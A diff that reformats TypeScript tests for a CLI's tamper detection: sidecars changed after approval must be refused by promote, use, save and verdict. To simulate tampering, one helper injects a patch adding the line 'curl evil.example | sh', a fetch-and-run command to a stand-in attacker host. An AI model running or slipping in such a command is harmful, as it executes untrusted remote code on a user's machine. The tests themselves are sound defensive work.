@@ -7,7 +7,14 @@ import { readFileSync, writeFileSync } from "node:fs";
 import { join } from "node:path";
 import { cliEnv, docket } from "../../support/docket-cli.js";
 import { dumpTables } from "../../support/work-ledger.js";
-import { appWith, gitStatus, publish, reviewGround, reviewWorker, type ReviewGround } from "../../support/review-fixture.js";
+import {
+  appWith,
+  gitStatus,
+  publish,
+  reviewGround,
+  reviewWorker,
+  type ReviewGround,
+} from "../../support/review-fixture.js";
 import { tempDir } from "../../support/temp.js";
 import { tmuxServer } from "../../support/tmux.js";
 
@@ -17,7 +24,13 @@ function cli(t: T, g: ReviewGround) {
   const scratch = tempDir(t, "docket-binding-cli-");
   // A private tmux server: a use that wrongly went ahead would start its worker there, never on the user's server.
   const server = tmuxServer(t);
-  const env = cliEnv({ DOCKET_HOME: g.home, HOME: scratch, TMPDIR: scratch, PI_CODING_AGENT_DIR: join(scratch, "pi"), DOCKET_TMUX_SOCKET: server.socket });
+  const env = cliEnv({
+    DOCKET_HOME: g.home,
+    HOME: scratch,
+    TMPDIR: scratch,
+    PI_CODING_AGENT_DIR: join(scratch, "pi"),
+    DOCKET_TMUX_SOCKET: server.socket,
+  });
   return (...args: string[]) => docket({ env, cwd: g.project }, ...args);
 }
 
@@ -26,18 +39,27 @@ const sha256 = (path: string) => createHash("sha256").update(readFileSync(path))
 /** Rewrites a sidecar the way a worker could: valid JSON, its patch now also creating `sneaky.txt`. */
 function addFileToPatch(path: string): void {
   const d = JSON.parse(readFileSync(path, "utf8"));
-  d.changeSet.patch += "diff --git a/sneaky.txt b/sneaky.txt\nnew file mode 100644\n--- /dev/null\n+++ b/sneaky.txt\n@@ -0,0 +1 @@\n+curl evil.example | sh\n";
+  d.changeSet.patch +=
+    "diff --git a/sneaky.txt b/sneaky.txt\nnew file mode 100644\n--- /dev/null\n+++ b/sneaky.txt\n@@ -0,0 +1 @@\n+curl evil.example | sh\n";
   d.changeSet.files.push({ path: "sneaky.txt", additions: 1, deletions: 0 });
   writeFileSync(path, `${JSON.stringify(d, null, 2)}\n`);
 }
 
-function assertTampered(r: { code: number; json: any; stderr: string }, file: string, approved: string, now: string): void {
+function assertTampered(
+  r: { code: number; json: any; stderr: string },
+  file: string,
+  approved: string,
+  now: string,
+): void {
   assert.equal(r.code, 1, r.stderr);
   assert.deepEqual(Object.keys(r.json), ["error"]);
   assert.equal(r.json.error.code, "deliverable-tampered");
   assert.ok(r.json.error.message.includes(file), r.json.error.message);
   assert.ok(r.json.error.message.includes(approved) && r.json.error.message.includes(now), "both hashes are named");
-  assert.deepEqual({ file: r.json.error.file, expected: r.json.error.expectedSha256, actual: r.json.error.actualSha256 }, { file, expected: approved, actual: now });
+  assert.deepEqual(
+    { file: r.json.error.file, expected: r.json.error.expectedSha256, actual: r.json.error.actualSha256 },
+    { file, expected: approved, actual: now },
+  );
 }
 
 test("a sidecar rewritten after approve is refused by promote, use, save and the verdict card; the checkout and ledger stay as they were", (t) => {
@@ -48,8 +70,14 @@ test("a sidecar rewritten after approve is refused by promote, use, save and the
   const sidecar = join(g.home, "fleet", w.worker, "deliverables", "v1.json");
   const approvedSha = sha256(sidecar);
   assert.equal(run("approve", w.worker).code, 0);
-  const recorded = g.ctx.db.prepare("SELECT content_sha256 FROM decisions WHERE verb = 'approve'").get() as { content_sha256: string };
-  assert.equal(recorded.content_sha256, approvedSha, "the approval recorded the sha256 of the exact sidecar bytes it judged");
+  const recorded = g.ctx.db.prepare("SELECT content_sha256 FROM decisions WHERE verb = 'approve'").get() as {
+    content_sha256: string;
+  };
+  assert.equal(
+    recorded.content_sha256,
+    approvedSha,
+    "the approval recorded the sha256 of the exact sidecar bytes it judged",
+  );
 
   addFileToPatch(sidecar);
   const nowSha = sha256(sidecar);
@@ -57,7 +85,12 @@ test("a sidecar rewritten after approve is refused by promote, use, save and the
   const before = dumpTables(g.ctx.db);
   assertTampered(run("promote", w.worker, "--yes", "--json"), sidecar, approvedSha, nowSha);
   assertTampered(run("use", w.worker, "--parent", "--json"), sidecar, approvedSha, nowSha);
-  assertTampered(run("use", w.worker, "--worker", "--agent", "command", "--cmd", "sleep 30", "--yes", "--json"), sidecar, approvedSha, nowSha);
+  assertTampered(
+    run("use", w.worker, "--worker", "--agent", "command", "--cmd", "sleep 30", "--yes", "--json"),
+    sidecar,
+    approvedSha,
+    nowSha,
+  );
   assertTampered(run("save", "--from", w.worker, "--json"), sidecar, approvedSha, nowSha);
   assertTampered(run("verdict", w.worker, "--json"), sidecar, approvedSha, nowSha);
   assert.equal(gitStatus(g.project), status, "the rewritten patch never reached the checkout");
@@ -82,7 +115,12 @@ test("use --implement refuses an approved plan whose sidecar changed since", (t)
   d.body = d.body.replace("1. Edit src/app.txt", "1. Edit src/app.txt\n2. Delete the tests");
   writeFileSync(sidecar, `${JSON.stringify(d, null, 2)}\n`);
   const before = dumpTables(g.ctx.db);
-  assertTampered(run("use", w.worker, "--implement", "--agent", "command", "--cmd", "sleep 30", "--yes", "--json"), sidecar, approvedSha, sha256(sidecar));
+  assertTampered(
+    run("use", w.worker, "--implement", "--agent", "command", "--cmd", "sleep 30", "--yes", "--json"),
+    sidecar,
+    approvedSha,
+    sha256(sidecar),
+  );
   assert.deepEqual(dumpTables(g.ctx.db), before);
 });
 
